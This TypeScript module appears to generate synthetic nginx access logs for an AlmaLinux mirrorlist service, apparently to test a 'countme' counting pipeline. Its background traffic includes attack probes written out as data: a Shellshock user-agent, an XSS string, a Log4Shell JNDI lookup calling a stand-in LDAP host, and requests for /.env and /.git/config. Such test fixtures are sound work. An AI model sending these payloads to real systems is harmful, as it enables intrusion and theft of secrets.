import type { EpochSeconds, Week } from '../flow/sightings/week.ts';
import { SECONDS_PER_WEEK, weekStart } from '../flow/sightings/week.ts';
import { escapeAsNginx } from './access-log.ts';
import { drawAddress, drawCountry } from './networks.ts';
import type { Random } from './random.ts';
import { createDraw, pick } from './random.ts';
import type { Outcome, Request } from './request.ts';
import { MIRRORS } from './request.ts';

/** One kind of visit: what one of its lines says, drawn anew each time from the lists. */
export interface Visit {
  requests: readonly string[];
  agents: readonly string[];
  status: number;
  bytes: number;
  referer?: string;
  outcome?: Outcome;
}

const BROWSERS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];
const BOTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
];
const SCANNERS = [
  '-',
  'Mozilla/5.0',
  'Mozilla/5.0 zgrab/0.x',
  'masscan/1.3',
  '() { :; }; echo "x\\y"',
  'Sönderscan/0.1',
];
const FETCHERS = ['curl/7.76.1', 'curl/8.5.0', 'Wget/1.21.1', 'python-requests/2.31.0', 'Go-http-client/1.1'];
const DNF = [
  'libdnf (AlmaLinux 9.6; generic; Linux.x86_64)',
  'libdnf (AlmaLinux 8.10; generic; Linux.x86_64)',
  'libdnf (AlmaLinux 10.0; generic; Linux.aarch64)',
];

/** Lines and their weights. Most have nothing to do with counting; the last ones ask to be counted and must not be. */
export const VISITS: readonly (readonly [visit: Visit, weight: number])[] = [
  [
    {
      requests: [
        'GET /mirrorlist/9/baseos HTTP/1.1',
        'GET /mirrorlist/8/appstream HTTP/2.0',
        'GET /mirrorlist/10/baseos HTTP/1.1',
      ],
      agents: FETCHERS,
      status: 200,
      bytes: 1843,
    },
    140,
  ],
  [
    {
      requests: ['GET /mirrorlist/9/baseos HTTP/1.1', 'GET /mirrorlist/9/appstream HTTP/1.1'],
      agents: ['ZYpp 17.25.7 (curl 7.88.1)', 'ZYpp 17.31.2 (curl 8.0.1)'],
      status: 200,
      bytes: 1843,
    },
    40,
  ],
  [
    {
      requests: ['GET /mirrorlist/8/baseos HTTP/1.1', 'GET /mirrorlist/8/extras HTTP/1.1'],
      agents: ['urlgrabber/3.10 yum/3.4.3', 'yum/4.0.8', 'libdnf'],
      status: 200,
      bytes: 1702,
    },
    60,
  ],
  [
    {
      requests: ['GET / HTTP/1.1', 'GET / HTTP/2.0'],
      agents: BROWSERS,
      status: 200,
      bytes: 5120,
      referer: 'https://wiki.almalinux.org/',
    },
    120,
  ],
  [
    {
      requests: ['GET /favicon.ico HTTP/2.0', 'GET /style.css HTTP/2.0', 'GET /map.js HTTP/2.0'],
      agents: BROWSERS,
      status: 200,
      bytes: 1406,
      referer: 'https://mirrors.almalinux.org/',
    },
    120,
  ],
  [
    {
      requests: ['GET /robots.txt HTTP/1.1', 'GET / HTTP/1.1', 'GET /isos/x86_64/9.6.html HTTP/1.1'],
      agents: BOTS,
      status: 200,
      bytes: 2214,
    },
    110,
  ],
  [
    {
      requests: ['GET /mirrorlist/9/baseos HTTP/1.1', 'GET / HTTP/1.1'],
      agents: [...FETCHERS, ...BOTS],
      status: 301,
      bytes: 162,
    },
    90,
  ],
  [
    { requests: ['HEAD / HTTP/1.1', 'HEAD /mirrorlist/9/baseos HTTP/1.1'], agents: FETCHERS, status: 200, bytes: 0 },
    40,
  ],
  [
    {
      requests: ['POST / HTTP/1.1', 'POST /api/login HTTP/1.1', 'OPTIONS * HTTP/1.1'],
      agents: SCANNERS,
      status: 405,
      bytes: 157,
    },
    30,
  ],
  [
    {
      requests: [
        'GET /wp-login.php HTTP/1.1',
        'GET /.env HTTP/1.1',
        'GET /mirrorlist/7/os HTTP/1.1',
        'GET /.git/config HTTP/1.1',
      ],
      agents: [...SCANNERS, ...BROWSERS],
      status: 404,
      bytes: 153,
    },
    90,
  ],
  [
    {
      requests: ['GET /mirrorlist/$releasever/baseos HTTP/1.1', 'GET /mirrorlist/9.9/appstream HTTP/1.1'],
      agents: DNF,
      status: 404,
      bytes: 153,
    },
    50,
  ],
  [
    {
      requests: [
        '\x16\x03\x01\x02\x00\x01\x00\x01\x7f\x03\x03',
        'GET /?q="><script>alert(1)</script> HTTP/1.1',
        '\x05\x01\x00',
        'MGLNDD_198.51.100.7_443\n',
      ],
      agents: ['-'],
      status: 400,
      bytes: 157,
    },
    30,
  ],
  [
    {
      requests: ['GET /mirrorlist/9/baseos?x=$%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1'],
      agents: SCANNERS,
      status: 200,
      bytes: 1843,
    },
    10,
  ],
  // From here on every line is a candidate.
  [
    {
      requests: [
        'GET /mirrorlist/9/baseos?countme=0 HTTP/1.1',
        'GET /mirrorlist/9/baseos?countme=5 HTTP/1.1',
        'GET /mirrorlist/8/baseos?countme= HTTP/1.1',
      ],
      agents: DNF,
      status: 200,
      bytes: 1843,
      outcome: 'age',
    },
    2,
  ],
  [
    {
      requests: [
        'GET /mirrorlist/9/baseos?countme=1&countme=1 HTTP/1.1',
        'GET /metalink?repo=baseos-9&repo=baseos-8&countme=2 HTTP/1.1',
      ],
      agents: DNF,
      status: 200,
      bytes: 1843,
      outcome: 'duplicate-key',
    },
    2,
  ],
  [
    {
      requests: ['GET /metalink?repo=%FF%FE&arch=x86_64&countme=1 HTTP/1.1'],
      agents: DNF,
      status: 200,
      bytes: 20,
      outcome: 'encoding',
    },
    1,
  ],
  [
    {
      requests: ['GET /mirrorlist/9/baseos?countme=1 HTTP/1.1', 'GET /mirrorlist/10/baseos?countme=4 HTTP/2.0'],
      agents: [...FETCHERS, ...BROWSERS],
      status: 200,
      bytes: 1843,
      outcome: 'agent',
    },
    4,
  ],
  [
    {
      requests: ['HEAD /mirrorlist/9/baseos?countme=1 HTTP/1.1'],
      agents: DNF,
      status: 200,
      bytes: 0,
      outcome: 'method',
    },
    1,
  ],
  [
    {
      requests: ['GET /?countme=3 HTTP/1.1', 'GET /mirrorlist/9/baseos/?countme=1 HTTP/1.1'],
      agents: [...DNF, ...BOTS],
      status: 200,
      bytes: 5120,
      outcome: 'path',
    },
    2,
  ],
  [
    { requests: ['GET /mirrorlist/9/baseos?countme=1'], agents: ['-'], status: 400, bytes: 157, outcome: 'malformed' },
    1,
  ],
  [
    {
      requests: [
        'GET /mirrorlist/$releasever/baseos?countme=2 HTTP/1.1',
        'GET /metalink?repo=epel%24%7Breleasever_minor:+-z%7D-10&arch=x86_64&countme=1 HTTP/1.1',
      ],
      agents: DNF,
      status: 404,
      bytes: 153,
      outcome: 'status',
    },
    4,
  ],
];

const drawVisit = createDraw(VISITS);

/** Lines of a week that are no list requests of the fleet: about so many, in no order. */
export function passTraffic(week: Week, lines: number, random: Random, emit: (request: Request) => void): void {
  for (let line = 0; line < lines; line += 1) {
    const visit = drawVisit(random);
    emit({
      address: drawAddress(drawCountry(random), random),
      time: (weekStart(week) + random.below(SECONDS_PER_WEEK)) as EpochSeconds,
      request: escaped(pick(visit.requests, random)),
      status: visit.status,
      bytes: visit.bytes,
      referer: visit.referer ?? '-',
      agent: escaped(pick(visit.agents, random)),
      mirror: random.below(MIRRORS.length),
      outcome: visit.outcome ?? 'none',
    });
  }
}

const CHECK_EVERY = 300;

/** The monitoring asks every mirror every five minutes, so no hour of a log is empty. */
export function passMonitoring(week: Week, emit: (request: Request) => void): void {
  for (let second = 0; second < SECONDS_PER_WEEK; second += CHECK_EVERY) {
    for (const mirror of MIRRORS.keys()) {
      emit({
        address: '192.0.2.10',
        time: (weekStart(week) + second + mirror) as EpochSeconds,
        request: 'GET /health HTTP/1.1',
        status: 200,
        bytes: 2,
        referer: '-',
        agent: 'check_http/v2.3.3 (monitoring-plugins 2.3.3)',
        mirror,
        outcome: 'none',
      });
    }
  }
}

const escapedTexts = new Map<string, string>();

function escaped(text: string): string {
  const known = escapedTexts.get(text);
  if (known !== undefined) return known;
  const result = escapeAsNginx(text);
  escapedTexts.set(text, result);
  return result;
}
